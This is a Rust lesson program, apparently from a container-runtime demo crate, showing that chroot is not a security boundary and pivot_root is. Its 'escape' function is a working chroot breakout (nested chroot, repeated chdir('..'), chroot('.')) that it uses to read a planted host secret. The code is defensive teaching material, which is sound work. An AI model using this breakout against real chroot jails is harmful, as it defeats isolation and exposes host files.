//! # Lesson: `chroot` is not a container boundary; `pivot_root` is
//!
//! `chroot(2)` changes only where path lookups start. The old root stays mounted, and a
//! process whose working directory lies *outside* its root can walk up with `..` past it:
//! the kernel stops `..` only at the process's root, and a process that chroots into a
//! subdirectory without `chdir` into it is already outside. That is the classic breakout:
//! `mkdir x; chroot x; chdir ..` (many times); `chroot .`.
//!
//! `pivot_root(2)` instead swaps the root *mount* of the mount namespace; once the old root
//! is detached there is no mount left to climb back into. This lesson runs the same
//! breakout program in both kinds of container and checks where it ends up.

use std::path::Path;
use std::process::exit;

use vessel::{ContainerSpec, RootfsMode};
use vessel_demos::helper::Helper;
use vessel_demos::scratch::ScratchRootfs;
use vessel_demos::{Lesson, Outcome};

const NAME: &str = "demo-chroot-vs-pivot-root";
/// This binary as the breakout program inside the container.
const ESCAPE: Helper = Helper {
    path: "/usr/local/bin/escape",
    flag: "--escape",
};

fn main() {
    if let Some([marker]) = ESCAPE.invoked().as_deref() {
        escape(marker);
    }
    Lesson::run(NAME, "chroot can be escaped; pivot_root cannot", run)
}

fn run(lesson: &mut Lesson) -> Outcome {
    lesson.step("prepare a rootfs with the breakout program, and a secret on the host outside it");
    let scratch = ScratchRootfs::new(NAME)?;
    ESCAPE.install(&scratch)?;
    let marker = scratch.outside().join("host-secret");
    let secret = format!("host secret {}", std::process::id());
    std::fs::write(&marker, &secret)?;
    lesson.see("rootfs", scratch.path().display());
    lesson.see("secret on the host", marker.display());
    lesson.claim(
        "the secret is not inside the rootfs",
        !marker.starts_with(scratch.path()),
    );

    lesson.step("run the breakout in a container entered with chroot");
    lesson.syscall("chroot(rootfs); then inside: mkdir(\"/.x\"); chroot(\"/.x\"); chdir(\"..\") ×64; chroot(\".\")");
    let chrooted = breakout(&scratch, &marker, RootfsMode::Chroot)?;
    lesson.see("breakout says", &chrooted);
    lesson.claim(
        "under chroot the breakout reaches the host's root and reads the secret",
        chrooted == format!("escaped: read {secret:?}"),
    );

    lesson.step("run the same breakout in a container entered with pivot_root");
    lesson.syscall("pivot_root(\".\", \".\"); umount2(\".\", MNT_DETACH); then the same breakout");
    let pivoted = breakout(&scratch, &marker, RootfsMode::PivotRoot)?;
    lesson.see("breakout says", &pivoted);
    lesson.claim(
        "under pivot_root the breakout stays inside: the host's files are unreachable",
        pivoted.starts_with("stayed inside:"),
    );
    Ok(())
}

fn breakout(
    scratch: &ScratchRootfs,
    marker: &Path,
    mode: RootfsMode,
) -> Result<String, Box<dyn std::error::Error>> {
    let marker = marker.to_str().ok_or("scratch path is not UTF-8")?;
    let spec = ContainerSpec::new(scratch.path(), ESCAPE.command(&[marker])).rootfs_mode(mode);
    let output = vessel::output(&spec)?;
    if !output.status.success() {
        return Err(format!("breakout {}: {}", output.status, output.stderr.trim()).into());
    }
    Ok(output.stdout.trim().to_owned())
}

// ANCHOR: escape
/// The breakout, run inside the container as root. Prints where it ended up.
fn escape(marker: &str) -> ! {
    let dir = c"/.x";
    // SAFETY: plain system calls on static C strings; this process is single-threaded.
    unsafe {
        libc::mkdir(dir.as_ptr(), 0o755);
        // The new root is /.x, but our working directory stays at the old root: outside.
        libc::chroot(dir.as_ptr());
        for _ in 0..64 {
            // `..` stops only at our root, and we are not under it any more.
            libc::chdir(c"..".as_ptr());
        }
        // Make wherever we reached our root.
        libc::chroot(c".".as_ptr());
    }
    match std::fs::read_to_string(marker) {
        Ok(secret) => println!("escaped: read {secret:?}"),
        Err(e) => println!("stayed inside: {marker}: {e}"),
    }
    exit(0)
}
// ANCHOR_END: escape
